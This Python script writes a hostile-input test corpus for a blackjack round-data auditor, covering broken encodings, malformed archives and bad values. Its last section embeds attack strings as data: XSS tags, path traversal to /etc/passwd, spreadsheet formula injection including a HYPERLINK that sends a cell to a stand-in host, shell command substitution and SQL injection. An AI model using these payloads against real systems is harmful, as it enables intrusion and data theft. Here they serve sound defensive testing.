"""Writes the hostile-input corpus of tests/test_hostile.py (run once; the files are kept).

    .venv/bin/python tests/hostile/make_corpus.py

Every file is small and broken or malicious in one way; ``manifest.toml`` (written by hand)
records what the auditor must make of each.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

HEADER = ["table_id", "round_id", "started_at", "dealer_id", "shoe_id", "dealer_cards", "seat", "hand",
          "split_from", "cards", "actions", "bet", "double", "insurance", "pool_bet", "net_main",
          "net_insurance", "pool_paid"]


def hand(round_id, minute=0, dealer_id="CR-1", dealer="TH 7C", cards="9S 7D 2C", actions="HS", bet="10.00",
         net_main="10.00", seat="1", **kw):
    row = {"table_id": "T1", "round_id": round_id, "started_at": f"2026-11-01T20:{minute:02d}:00-05:00",
           "dealer_id": dealer_id, "shoe_id": "S1", "dealer_cards": dealer, "seat": seat, "hand": "0",
           "split_from": "", "cards": cards, "actions": actions, "bet": bet, "double": "0", "insurance": "0",
           "pool_bet": "0", "net_main": net_main, "net_insurance": "0", "pool_paid": "0"}
    row.update(kw)
    return row


# Three clean rounds (the second with two seats): 4 records, no finding.
CLEAN = [hand("R1", 0), hand("R2", 1, cards="9S 7D", actions="S", net_main="-10.00"),
         hand("R2", 1, seat="2", cards="TD 8C", actions="S", net_main="10.00"), hand("R3", 2)]
# The dealer drew on a soft 17 in R2 (PLB-DEALER-PLAY, high).
DEALER_DREW = hand("R2", 1, dealer="AH 6C QD", cards="8S 3D 9C", net_main="10.00")


def csv_text(rows, sep=",", header=HEADER, eol="\n", quote_all=False) -> str:
    def cell(v):
        v = str(v)
        if quote_all or any(c in v for c in (sep, '"', "\n", "\r")):
            return '"' + v.replace('"', '""') + '"'
        return v
    lines = [sep.join(cell(h) for h in header)]
    lines += [sep.join(cell(r.get(h, "")) for h in header) for r in rows]
    return eol.join(lines) + eol


def jsonl_text(rows) -> str:
    rounds: dict[str, dict] = {}
    for r in rows:
        base = {k: r[k] for k in HEADER[:6]}
        doc = rounds.setdefault(r["round_id"], {"game": "pot-luck-blackjack", **base, "hands": []})
        hand_fields = {k: r[k] for k in HEADER[6:]}
        hand_fields["seat"], hand_fields["hand"] = int(hand_fields["seat"]), int(hand_fields["hand"])
        hand_fields["split_from"] = None
        doc["hands"].append(hand_fields)
    return "".join(json.dumps(d, ensure_ascii=False) + "\n" for d in rounds.values())


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)  # no timestamp: the corpus is the same at every run


def write(name: str, data: bytes | str, encoding="utf-8") -> None:
    path = FILES / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))


def main() -> None:
    FILES.mkdir(exist_ok=True)
    for old in FILES.iterdir():
        old.unlink()
    clean = csv_text(CLEAN)
    lines = clean.splitlines(keepends=True)
    accents = [dict(r, dealer_id="José Peña") for r in CLEAN[:2]] + [DEALER_DREW | {"dealer_id": "Iñigo Muñoz",
                                                                                  "round_id": "R9", "started_at": "2026-11-01T20:09:00-05:00"}]

    # --- encodings and dialects: all read, no error -------------------------------------
    write("clean.csv", clean)
    write("bom_crlf.csv", "\ufeff" + csv_text(CLEAN, eol="\r\n"))
    write("semicolon_decimal_comma.csv", csv_text([{**r, "bet": r["bet"].replace(".", ","),
                                                     "net_main": r["net_main"].replace(".", ",")} for r in CLEAN], sep=";"))
    write("tab_separated.csv", csv_text(CLEAN, sep="\t"))
    write("pipe_separated.csv", csv_text(CLEAN, sep="|"))
    write("quoted_everything.csv", csv_text(CLEAN, quote_all=True))
    write("comma_decimal_quoted.csv", csv_text([{**r, "bet": r["bet"].replace(".", ",")} for r in CLEAN]))
    write("cp1252_accents.csv", csv_text(accents), encoding="cp1252")
    write("utf8_accents.csv", csv_text(accents))
    write("utf16_bom_tab.csv", csv_text(accents, sep="\t"), encoding="utf-16")
    write("gzip.csv.gz", gz(clean.encode()))
    write("gzip_two_members.csv.gz", gz("".join(lines[:3]).encode()) + gz("".join(lines[3:]).encode()))
    write("gzip_zero_padded.csv.gz", gz(clean.encode()) + b"\x00" * 1024)  # as some tape and copy tools leave it
    write("naive_timestamps.csv", csv_text([{**r, "started_at": r["started_at"][:-6]} for r in CLEAN]))
    write("rounds_out_of_time_order.csv", csv_text([CLEAN[3], CLEAN[1], CLEAN[2], CLEAN[0]]))
    write("blank_lines.csv", lines[0] + "\n" + lines[1] + "\r\n\n" + "".join(lines[2:]) + "\n\n")
    write("extra_columns.csv", csv_text([{**r, "comment": "=cmd|' /C calc'!A0", "tip": "1"} for r in CLEAN],
                                         header=HEADER + ["comment", "tip"]))
    write("header_only.csv", lines[0])
    # A header as some table systems write it: in capitals, a name with blanks around it.
    write("header_capitals.csv", ",".join(f" {h.title()} " if h == "dealer_id" else h.upper() for h in HEADER)
          + "\n" + "".join(lines[1:]))
    write("clean.jsonl", jsonl_text(CLEAN))
    write("cp1252.jsonl", jsonl_text(accents), encoding="cp1252")
    # A document of another game among Pot Luck's (an export routed to the wrong folder), and
    # one whose "game" is no game: neither is audited as Pot Luck.
    docs = jsonl_text(CLEAN).splitlines()
    docs[1] = docs[1].replace('"game": "pot-luck-blackjack"', '"game": "let-it-ride"')
    docs[2] = docs[2].replace('"game": "pot-luck-blackjack"', '"game": "ruleta"')
    write("other_game.jsonl", "\n".join(docs) + "\n")
    write("other_game_column.csv", csv_text([{**r, "game": g} for r, g in zip(CLEAN, ["", "Pot-Luck-Blackjack ",
                                            "pot-luck-blackjack", "triple-shot"])], header=[*HEADER, "game"]))
    write("bom_crlf.jsonl.gz", gz(("\ufeff" + jsonl_text(CLEAN).replace("\n", "\r\n")).encode()))
    write("accents_cp1252.csv.gz", gz(csv_text(accents, sep=";").encode("cp1252")))

    # --- structure errors: the file as a whole cannot be audited (exit 2) ----------------
    write("empty.csv", b"")
    write("empty.jsonl", b"")
    write("blanks_only.csv", "\r\n \n\t\n")
    write("missing_required_columns.csv", csv_text(CLEAN, header=[h for h in HEADER if h not in ("net_main", "cards")]))
    write("duplicate_header.csv", csv_text(CLEAN, header=HEADER + ["bet"]))
    write("unknown_columns.csv", "a,b,c\n1,2,3\n")
    # Two names of one column but for their case: which holds the round's table is unknown.
    write("header_case_collision.csv", csv_text([{**r, "TABLE_ID": "T9"} for r in CLEAN], header=HEADER + ["TABLE_ID"]))
    # A header line with no line end in its first MB (2 MB of one name), compressed to a few KB.
    write("header_too_long.csv.gz", gz(("table_id," + "x" * 2_000_000 + clean[len(lines[0]) - 1:]).encode()))
    write("binary_garbage.csv", bytes(range(256)) * 8)
    write("binary_garbage.jsonl", bytes(reversed(range(256))) * 8)
    write("not_gzip.csv.gz", clean.encode())
    write("truncated_gzip.csv.gz", gz(clean.encode() * 20)[:-40])
    write("garbage.parquet", b"PAR1" + bytes(range(200)) + b"PAR1")
    write("zip_bomb_ish.csv.gz", gz(lines[0].encode() + b"\x00" * 2_000_000))

    # --- structure errors: rows rejected with file and line ------------------------------
    write("truncated_last_line.csv", clean[: -len(lines[-1]) + 25])
    write("unterminated_quote.csv", clean + 'T1,"R4,2026-11-01T20:05:00-05:00\n')
    write("quoted_newline.csv", "".join(lines[:2]) + lines[2].replace("CR-1", '"CR\n1"') + lines[3] + lines[4])
    write("unquoted_decimal_comma.csv", "".join(lines[:4]) + lines[4].replace("10.00", "10,00"))
    write("utf8_cut_mid_character.csv", csv_text(accents).encode()[:-2].rstrip(b"\n") + "ñ".encode()[:1])
    write("broken_json_lines.jsonl", jsonl_text(CLEAN) + '{"table_id": "T1", "round_id": "R7", \n'
          + "not json\n" + "[1, 2, 3]\n" + '{"table_id": "T1", "hands": "nope"}\n' + "[" * 5000 + "\n")
    write("json_wrong_types.jsonl", jsonl_text(CLEAN).replace('"bet": "10.00"', '"bet": {"x": 1}', 1)
          .replace('"seat": 2', '"seat": true', 1))

    # --- content errors: findings or rejects with reasons --------------------------------
    write("impossible_cards.csv", csv_text([CLEAN[0], {**CLEAN[1], "cards": "JK 7D"}, CLEAN[2],
                                            {**CLEAN[3], "dealer_cards": "1X 7C"}]))
    write("negative_amounts.csv", csv_text([{**CLEAN[0], "bet": "-10.00"}, *CLEAN[1:]]))
    # Above S/ 999 999 999.99, the largest amount the audit's int64 arithmetic takes.
    write("amounts_too_large.csv", csv_text([{**CLEAN[0], "bet": "1000000000.00"}, CLEAN[1], CLEAN[2],
                                             {**CLEAN[3], "net_main": "12345678901234567890"}]))
    write("non_numeric_amounts.csv", csv_text([{**CLEAN[0], "bet": "ten"}, CLEAN[1], CLEAN[2],
                                               {**CLEAN[3], "net_main": "1.000,00"}]))
    write("duplicated_round_id.csv", csv_text(CLEAN + [CLEAN[0]]))
    write("duplicated_line.csv", csv_text([CLEAN[0], CLEAN[0], *CLEAN[1:]]))
    write("header_repeated.csv", csv_text([*CLEAN[:2], dict(zip(HEADER, HEADER)), *CLEAN[2:]]))
    # Excel's "CSV UTF-8" starts each export with a byte-order mark: two joined, one stands mid-file.
    write("header_repeated_bom.csv", csv_text(CLEAN[:2]) + "\ufeff" + csv_text(CLEAN[2:]))
    # Some exporters write Excel's separator hint before the header.
    write("excel_separator_line.csv", "sep=;\r\n" + csv_text(CLEAN, sep=";", eol="\r\n"))
    # An empty line, one of spaces and one of separators only before the header: passed over.
    write("blank_lines_before_header.csv", "\n  \n,,,\n" + clean)
    # ... after Excel's byte-order mark, naming the comma; a bad amount on line 4 (the header's is 2).
    write("excel_separator_line_bom.csv", "\ufeffsep=,\n" + csv_text([CLEAN[0], {**CLEAN[1], "bet": "diez"},
                                                                     *CLEAN[2:]]))
    # ... and two such exports joined into one file: the second's hint and header are no rounds.
    write("excel_separator_line_twice.csv", "sep=;\r\n" + csv_text(CLEAN[:1], sep=";", eol="\r\n")
          + "sep=;\r\n" + csv_text(CLEAN[1:], sep=";", eol="\r\n"))
    write("bad_timestamps.csv", csv_text([{**CLEAN[0], "started_at": "yesterday"}, CLEAN[1], CLEAN[2],
                                          {**CLEAN[3], "started_at": "2026-13-45T99:00:00"}]))
    write("nul_bytes.csv", csv_text([{**CLEAN[0], "dealer_id": "CR\x00-1"}, *CLEAN[1:]]))
    write("nul_byte_first.csv", csv_text([{**CLEAN[0], "dealer_id": "\x00CR-1"}, *CLEAN[1:]]))
    write("huge_field.csv", csv_text([{**CLEAN[0], "cards": "AS " * 5000}, *CLEAN[1:]]))
    write("long_identifier.csv", csv_text([{**CLEAN[0], "dealer_id": "CR-" + "9" * 62}, *CLEAN[1:]]))  # 65 characters
    write("seat_not_a_number.csv", csv_text([{**CLEAN[0], "seat": "1e3"}, *CLEAN[1:]]))
    write("times_out_of_range.csv", csv_text([{**CLEAN[0], "started_at": "0001-01-01T00:00:00Z"}, CLEAN[1], CLEAN[2],
                                              {**CLEAN[3], "started_at": "9999-12-31T23:59:59+14:00"}]))
    write("lone_surrogate.jsonl", jsonl_text(CLEAN).replace('"dealer_id": "CR-1"', '"dealer_id": "CR\\ud800"', 1))
    write("reader_column_names.csv", csv_text([{**r, "_file": "x.csv", "_line": "7"} for r in CLEAN],
                                              header=HEADER + ["_file", "_line"]))
    columns = {h: pa.array([r[h] for r in CLEAN]) for h in HEADER}
    pq.write_table(pa.Table.from_arrays([*columns.values(), columns["bet"]], names=[*HEADER, "bet"]),
                   FILES / "duplicate_columns.parquet")
    # A Parquet game column, dictionary-encoded as Parquet keeps it, with a null: only R3's
    # let-it-ride is another game.
    games = pa.array([None, "pot-luck-blackjack", "pot-luck-blackjack", "let-it-ride"]).dictionary_encode()
    pq.write_table(pa.Table.from_arrays([*columns.values(), games], names=[*HEADER, "game"]),
                   FILES / "other_game_column.parquet")
    # Extra columns of types that do not read as text (a list, a struct, bytes that are no
    # UTF-8): ignored like any extra column. The game's own column of such a type stops the file,
    # naming it.
    extra = {"tags": pa.array([[1, 2], [], None, [3]]), "meta": pa.array([{"a": 1}, {"a": 2}, None, {"a": 4}]),
             "blob": pa.array([b"\xff\xfe", b"ok", None, b"\x80"], pa.binary())}
    pq.write_table(pa.Table.from_arrays([*columns.values(), *extra.values()], names=[*HEADER, *extra]),
                   FILES / "nested_extra_columns.parquet")
    nested = {**columns, "dealer_id": pa.array([["CR-1"]] * 4)}
    pq.write_table(pa.Table.from_arrays(list(nested.values()), names=HEADER), FILES / "nested_game_column.parquet")
    # The game's dealer_id as bytes, R2's first row's no UTF-8: that row rejected, and R2 with it.
    binary = {**columns, "dealer_id": pa.array([b"CR-1", b"CR-\xff", b"CR-1", b"CR-1"], pa.binary())}
    pq.write_table(pa.Table.from_arrays(list(binary.values()), names=HEADER), FILES / "binary_game_column.parquet")

    # A CSV without the optional pool_paid and net_insurance columns, whose R2 shows pool bets:
    # the pool rules are not checked on R2 (a note says why), and nothing is a finding.
    pooled = [CLEAN[0], {**CLEAN[1], "pool_bet": "5.00"}, {**CLEAN[2], "pool_bet": "5.00"}, CLEAN[3]]
    write("optional_columns_absent.csv",
          csv_text(pooled, header=[h for h in HEADER if h not in ("pool_paid", "net_insurance")]))

    # --- JSONL hands that are not hands: one reject of the record, no finding ---------------
    docs = [json.loads(line) for line in jsonl_text(CLEAN).splitlines()]
    # R1's hand names another table, R2's second hand another round (each would be a round
    # apart); R3's hand repeats the round's own table and dealer, which is harmless.
    docs[0]["hands"][0]["table_id"] = "T9"
    docs[1]["hands"][1]["round_id"] = "R9"
    docs[2]["hands"][0].update(table_id="T1", dealer_id="CR-1")
    write("json_hand_round_fields.jsonl", "".join(json.dumps(d) + "\n" for d in docs))
    docs = [json.loads(line) for line in jsonl_text(CLEAN).splitlines()]
    docs[1]["hands"][1] = None
    docs[2]["hands"] = [7]
    write("json_hand_not_object.jsonl", "".join(json.dumps(d) + "\n" for d in docs))
    # R1 given again on the next line, with a hand that is null: a JSONL line is a whole round,
    # so the second line is a copy of R1, rejected for its own fault; the first line's R1 is
    # audited (as it is when a chunk falls between two such lines further apart).
    docs = [json.loads(line) for line in jsonl_text(CLEAN).splitlines()]
    docs.insert(1, {**docs[0], "hands": [None]})
    write("json_hand_not_object_in_split_round.jsonl", "".join(json.dumps(d) + "\n" for d in docs))
    # A key given twice, which Python's JSON would read as its last value: R1's table_id (which
    # round it is, unknown: the line alone rejected), a bet of R2's second hand, with a blank
    # before its colon (R2 rejected whole). R3 is clean.
    lines = jsonl_text(CLEAN).splitlines()
    lines[0] = lines[0].replace('"table_id": "T1"', '"table_id": "T1", "table_id": "T9"', 1)
    at = lines[1].rindex('"bet": "10.00"')
    lines[1] = lines[1][:at] + '"bet" : "1000.00", ' + lines[1][at:]
    write("json_duplicate_keys.jsonl", "\n".join(lines) + "\n")
    # NaN and Infinity, which Python's JSON reads as numbers: values of no field's kind, not
    # missing ones (an amount, a dealer).
    docs = [json.loads(line) for line in jsonl_text(CLEAN).splitlines()]
    docs[0]["hands"][0]["bet"] = float("nan")
    docs[1]["dealer_id"] = float("nan")
    docs[2]["hands"][0]["net_main"] = float("inf")
    write("json_nan_amounts.jsonl", "".join(json.dumps(d) + "\n" for d in docs))

    # An export that begins with objects that are no rounds (a header object of its own, {},
    # a round without hands): each a rejected line, and the game told by the rounds after them.
    docs = [{"export": "Casino Ejemplo", "version": 2}, {},
            {**json.loads(jsonl_text(CLEAN).splitlines()[0]), "round_id": "R0", "hands": []}]
    write("json_leading_objects_no_rounds.jsonl", "".join(json.dumps(d) + "\n" for d in docs) + jsonl_text(CLEAN))

    # --- malicious content: nothing is executed, nothing written elsewhere ----------------
    evil = [DEALER_DREW | {"dealer_id": "<script>alert(1)</script>", "table_id": "../../etc/passwd",
                           "round_id": "<img src=x onerror=alert(2)>"},
            hand("R5", 5, dealer="AH 6C QD", cards="8S 3D 9C", dealer_id='=HYPERLINK("http://x.example/?"&A1,"x")',
                 table_id="@SUM(1+1)*cmd|' /C calc'!A0"),
            hand("R6", 6, dealer="AH 6C QD", cards="8S 3D 9C", dealer_id="$(touch /tmp/pwned) `id`",
                 table_id="+1-1", shoe_id="'; DROP TABLE runs; --")]
    write("xss_and_formulas.csv", csv_text(evil))
    write("xss.jsonl", jsonl_text(evil))


if __name__ == "__main__":
    main()
